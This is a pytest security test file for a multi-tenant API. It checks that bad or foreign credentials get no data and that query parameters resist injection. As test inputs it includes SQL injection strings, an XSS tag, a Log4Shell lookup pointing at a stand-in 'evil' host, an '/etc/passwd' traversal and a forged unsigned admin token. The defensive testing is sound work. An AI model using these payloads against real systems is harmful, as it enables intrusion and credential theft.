"""The sweep: every route x {no key, malformed, another workspace's, viewer, revoked, expired}: no leaks.

It is made from the routes themselves (`sweeping`), against workspaces in which every name is marked.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping, Sequence
from typing import Any
from uuid import UUID

import httpx2
import pytest
from api.rooms import HIDDEN, MARK, Rooms, dump, furnished
from api.sweeping import ADMINS, API, OPERATORS, READS, Ask, api_of, asks_of, outer_paths
from service.conftest import Clock
from service.feeds import Feeds
from starlette.applications import Starlette

from autopilot.http.app import build_web
from autopilot.service.context import App
from autopilot.store import issues

SECRET = "a-secret-for-ticks-0123456789"
KEY = "7c1f0b2e9d4a4c5f8e3b6a1d2c7f9e05"
SECRETS = (HIDDEN, SECRET, KEY)
WITHIN_SECONDS = 5
REFUSED_BY_THEIR_VERB = {
    "POST /v1/sources/find",  # its example is a site that is none
    "PUT /v1/specifications/{specification_id}",  # its example has another slug
}
MALFORMED: dict[str, bytes] = {
    "a word": b"Bearer wrong",
    "nothing": b"Bearer",
    "another scheme": b"Basic YWRtaW46YWRtaW4=",
    "two": b"Bearer a b",
    "not ASCII": "Bearer clé-ключ".encode(),
    "long": b"Bearer " + b"x" * 20_000,
    "SQL": b"Bearer ' OR 1=1 --",
    "a token of nobody": b"Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.",
}


@pytest.fixture
def rooms(new_app: Callable[..., App], feeds: Feeds, clock: Clock) -> Rooms:
    """The workspaces, in an installation that takes ticks."""
    settings = {"AUTOPILOT_TICK_SECRET": SECRET, "AUTOPILOT_SECRET_KEY": KEY}
    return furnished(new_app(**settings), feeds)


@pytest.fixture
def web(rooms: Rooms) -> Starlette:
    return build_web(rooms.app)


def bearer(rooms: Rooms, name: str) -> bytes:
    return f"Bearer {rooms.keys[name]}".encode()


def everybody_else(rooms: Rooms) -> dict[str, Mapping[str, bytes]]:
    """Who has no key that is good: the headers that they come with."""
    headers: dict[str, Mapping[str, bytes]] = {"no key": {}}
    headers |= {name: {"Authorization": value} for name, value in MALFORMED.items()}
    for name in ("revoked", "expired"):
        headers[name] = {"Authorization": bearer(rooms, name)}
    headers["a good one cut short"] = {"Authorization": bearer(rooms, "admin")[:-1]}
    headers["a good one in the address alone"] = {"X-Api-Key": rooms.keys["admin"].encode()}
    headers["a good one as a cookie"] = {"Cookie": f"token={rooms.keys['admin']}".encode()}
    return headers


def leaks(answer: httpx2.Response, *, marks: Sequence[str] = (MARK, *SECRETS)) -> list[str]:
    """Which marks stand in an answer, in its body or its headers."""
    said = (answer.text + str(answer.headers)).lower()
    return [mark for mark in marks if mark.lower() in said]


def sweep_without(client: httpx2.Client, rooms: Rooms, asks: Sequence[Ask]) -> list[str]:
    """What is wrong with the answers to those who have no good key: each is 401 and says nothing."""
    wrong: list[str] = []
    for ask in asks:
        for name, headers in everybody_else(rooms).items():
            answer = ask.send(client, headers)
            if answer.status_code != 401 or answer.headers.get("www-authenticate") != "Bearer":
                wrong.append(f"{ask.name}: {name} got {answer.status_code}")
            wrong += [f"{ask.name}: {name} read {mark}" for mark in leaks(answer)]
            if answer.elapsed.total_seconds() > WITHIN_SECONDS:
                wrong.append(f"{ask.name}: {name} waited {answer.elapsed}")
    return wrong


def sweep_as_stranger(client: httpx2.Client, rooms: Rooms, asks: Sequence[Ask]) -> list[str]:
    """What is wrong with the answers to an admin of another workspace: what is here is not there."""
    wrong: list[str] = []
    for ask in asks:
        answer = ask.send(client, {"Authorization": bearer(rooms, "stranger")})
        if (ask.method, ask.route) in OPERATORS:
            expected = {403}
        else:
            expected = {404} if ask.is_about_things else {200}
        if answer.status_code not in expected:
            wrong.append(f"{ask.name}: a stranger got {answer.status_code}: {answer.text[:200]}")
        wrong += [f"{ask.name}: a stranger read {mark}" for mark in leaks(answer)]
    return wrong


def sweep_as_viewer(client: httpx2.Client, rooms: Rooms, asks: Sequence[Ask]) -> list[str]:
    """What is wrong with the answers to a viewer, who may look and do nothing."""
    wrong: list[str] = []
    for ask in asks:
        answer = ask.send(client, {"Authorization": bearer(rooms, "viewer")})
        may = ask.method == "GET" and not ask.route.startswith(ADMINS)
        expected = 200 if may or (ask.method, ask.route) in READS else 403
        if answer.status_code != expected:
            wrong.append(f"{ask.name}: a viewer got {answer.status_code}: {answer.text[:200]}")
        wrong += [f"{ask.name}: a viewer read {mark}" for mark in leaks(answer, marks=SECRETS)]
        if answer.headers.get("content-type", "").startswith("text/html"):
            if "attachment" not in answer.headers.get("content-disposition", ""):
                wrong.append(f"{ask.name}: shows a page of this site")
            if "sandbox" not in answer.headers["content-security-policy"]:
                wrong.append(f"{ask.name}: what it gives may run")
        if answer.headers.get("x-content-type-options") != "nosniff":
            wrong.append(f"{ask.name}: a browser may guess what it is")
    return wrong


SWEEPS = {
    "those without a good key": sweep_without,
    "a stranger": sweep_as_stranger,
    "a viewer": sweep_as_viewer,
}


@pytest.mark.parametrize("who", SWEEPS)
def test_nobody_gets_more_than_is_theirs(rooms: Rooms, web: Starlette, who: str) -> None:
    asks = list(asks_of(api_of(web), rooms.ids))
    assert len(asks) > 60
    before = dump(rooms.app)
    with rooms.client(None) as client:
        assert SWEEPS[who](client, rooms, asks) == []
    after = dump(rooms.app)
    assert {name for name in before if before[name] != after[name]} == set()


def test_the_requests_of_the_sweep_are_real_ones(rooms: Rooms, web: Starlette) -> None:
    """An admin who may send gets through with every one of them: nothing else kept the others out."""
    strange: list[str] = []
    with rooms.client(None) as client:
        for ask in asks_of(api_of(web), rooms.ids):
            answer = ask.send(client, {"Authorization": bearer(rooms, "admin")})
            may = answer.status_code < 300 or answer.status_code in (409, 410)
            may = may or (answer.status_code == 422 and ask.name in REFUSED_BY_THEIR_VERB)
            if not may and (ask.method, ask.route) not in OPERATORS:
                strange.append(f"{ask.name}: {answer.status_code} {answer.text[:300]}")
    assert not strange, "\n".join(strange)


def unguarded(web: Starlette, rooms: Rooms) -> Starlette:
    """The application with routes that forgot their guard."""

    @api_of(web).get("/v1/issues/{issue_id}/subject", tags=["issues"])
    def subject(issue_id: UUID) -> dict[str, str]:
        """Tell the subject of an issue to anybody."""
        with rooms.app.database.read() as connection:
            found = issues.get_issue(connection, issue_id)
        return {"subject": "" if found is None else found.subject}

    return web


def test_a_route_without_its_guard_is_found(rooms: Rooms, web: Starlette) -> None:
    asks = [
        ask
        for ask in asks_of(api_of(unguarded(web, rooms)), rooms.ids)
        if ask.route.endswith("/subject")
    ]
    assert len(asks) == 1
    with rooms.client(None, web=web) as client:
        assert f"{asks[0].name}: no key got 200" in sweep_without(client, rooms, asks)
        found = sweep_as_stranger(client, rooms, asks)
    assert f"{asks[0].name}: a stranger read {MARK}" in found


METHODS = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND")


def test_no_address_beside_the_api_tells_anything(rooms: Rooms, web: Starlette) -> None:
    parts = {
        "workspace": "zanzibar-a",
        "specification": "zanzibar-energy",
        "issue": str(rooms.ids["issue_id"]),
        "sources": "sources",
        "kind": "xml",
        "token": str(rooms.ids["issue_id"]),
    }
    before = dump(rooms.app)
    wrong: list[str] = []
    with rooms.client(None) as client:
        for route, path in outer_paths(web, parts):
            for method in METHODS:
                for headers in ({}, {"Authorization": bearer(rooms, "admin")}):
                    answer = client.request(method, path, headers=headers)
                    wrong += [f"{method} {route} says {mark}" for mark in told(answer, path)]
                    if answer.status_code >= 500:
                        wrong.append(f"{method} {route}: {answer.status_code}")
    assert wrong == []
    after = dump(rooms.app)
    assert {name for name in before if before[name] != after[name]} == set()


def told(answer: httpx2.Response, path: str) -> list[str]:
    """The marks that an answer tells besides the address that was asked for."""
    said = (answer.text + str(answer.headers)).lower().replace(path.lower(), "")
    return [mark for mark in (MARK, *SECRETS) if mark in said]


def test_addresses_that_are_none_are_404(rooms: Rooms) -> None:
    with rooms.client("admin") as client:
        for path in ("", "/", "/v1", "/v1/", "/v2/issues", "/docs", "/redoc", "/v1/issues/../x"):
            assert client.get(API + path).status_code == 404, path
        for path in ("/admin", "/.env", "//api/v1/issues", "/_stcore/metrics"):
            answer = client.get(path)
            assert (answer.status_code, leaks(answer)) == (404, []), path


HOSTILE = (
    "' OR 1=1 --",
    "'; DROP TABLE workspaces; --",
    '") UNION SELECT * FROM api_tokens --',
    "name; SELECT pg_sleep(5)",
    "<script>alert(1)</script>",
    "%' ESCAPE '!' --",
    "${jndi:ldap://evil}",
    "../../etc/passwd",
    "a" * 5_000,
    "\N{GRINNING FACE}" * 40,
)


def hostile_asks(api: Any, ids: Mapping[str, UUID]) -> Iterator[tuple[str, str, dict[str, str]]]:
    """Each parameter of each list with what is not meant for it, and some that no list has."""
    document = api.openapi()
    for ask in asks_of(api, ids):
        if ask.method != "GET":
            continue
        operation = document["paths"][ask.route]["get"]
        names = [it["name"] for it in operation.get("parameters", ()) if it["in"] == "query"]
        for name in (*names, "sort", "order_by", "filter"):
            for text in HOSTILE:
                yield ask.name, ask.path, {**dict(ask.query), name: text}


def test_sql_in_any_parameter_is_only_text(rooms: Rooms, web: Starlette) -> None:
    before = dump(rooms.app)
    wrong: list[str] = []
    with rooms.client("viewer") as client:
        for name, path, query in hostile_asks(api_of(web), rooms.ids):
            answer = client.get(API + path, params=query)
            if answer.status_code not in (200, 404, 422):
                wrong.append(f"{name} {query}: {answer.status_code}")
            if answer.elapsed.total_seconds() > WITHIN_SECONDS:
                wrong.append(f"{name} {query}: {answer.elapsed}")
            if answer.status_code == 200 and answer.json().get("items"):
                wrong.append(f"{name} {query}: found something")
    assert wrong == []
    assert dump(rooms.app) == before


def test_ids_that_are_none_are_not_looked_for(rooms: Rooms, web: Starlette) -> None:
    wrong: list[str] = []
    with rooms.client("admin") as client:
        for ask in asks_of(api_of(web), rooms.ids):
            for strange in ("1", "%27%20OR%201%3D1", "null", "0" * 400):
                path = ask.path
                for name, identity in rooms.ids.items():
                    if f"{{{name}}}" in ask.route:
                        path = path.replace(str(identity), strange)
                if path == ask.path:
                    continue
                answer = Ask(
                    ask.method, ask.route, path, ask.query, ask.content, ask.media_type
                ).send(client, {})
                if answer.status_code not in (404, 405, 422):
                    wrong.append(f"{ask.name} {strange}: {answer.status_code}")
    assert wrong == []
